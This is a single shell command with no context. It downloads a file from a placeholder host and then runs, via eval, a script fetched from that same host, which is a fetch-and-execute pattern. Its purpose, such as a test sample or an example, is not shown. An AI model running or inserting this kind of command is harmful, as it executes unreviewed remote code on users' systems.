curl -sO https://x.example.com/a; eval "$(curl -s https://x.example.com/b)"
